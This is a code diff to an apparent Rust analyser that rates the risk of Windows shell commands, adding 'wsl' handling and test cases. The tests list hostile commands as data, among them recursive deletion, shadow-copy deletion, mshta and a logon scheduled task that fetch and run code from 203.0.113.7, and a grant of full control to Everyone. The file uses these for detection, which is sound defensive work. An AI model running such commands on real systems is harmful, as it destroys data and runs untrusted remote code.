@@ -111,6 +111,7 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
             }
         }
         "forfiles" => forfiles(run),
+        "wsl" => wsl(run),
         "start" => {
             let words: Vec<Arg> = run.args.iter().filter(|arg| !arg.text.starts_with('/') && !arg.quoted).cloned().collect();
             if !words.is_empty() && !words.iter().any(|word| word.text.contains("://")) {
@@ -133,6 +134,20 @@ fn download(run: &mut Run<'_, '_>) {
     if run.name == "certutil" || run.name == "bitsadmin" {
         let target = address.text.clone();
         run.effect(Kind::ExecuteUntrusted, &target, Scope::Remote, R1, "fetches a file through a system tool");
+    }
+}
+
+/// `wsl -d NAME -e rm -rf x`: the command runs in a distribution, where the home is another.
+fn wsl(run: &mut Run<'_, '_>) {
+    let grammar = crate::options::Grammar {
+        short: "du",
+        long: &["distribution", "user", "cd", "shell-type"],
+        ..crate::options::Grammar::default()
+    };
+    let (_, at) = grammar.parse_until(run.args, true);
+    let words = run.args.get(at..).unwrap_or_default().to_vec();
+    if !words.is_empty() {
+        run.inner(words, crate::pipes::Flow::None);
     }
 }
 
@@ -160,6 +175,7 @@ mod tests {
         check(
             &[
                 "wsl --unregister Ubuntu-24.04",
+                "wsl -e rm -rf /home/me",
                 "vssadmin delete shadows /all /quiet",
                 "reg delete HKLM\\Software\\Acme /f",
                 "mshta http://203.0.113.7/a.hta",
@@ -167,6 +183,7 @@ mod tests {
                 "schtasks /create /tn x /tr \"powershell -c iex(irm http://203.0.113.7/b)\" /sc onlogon",
             ],
             &[
+                "wsl -d Ubuntu-24.04 -- sudo make install",
                 "forfiles /p C:\\Data /s /c \"cmd /c del @path\"",
                 "icacls C:\\ /grant Everyone:F /T",
                 "reg add HKCU\\Software\\Run /v x /d C:\\tmp\\x.exe /f",
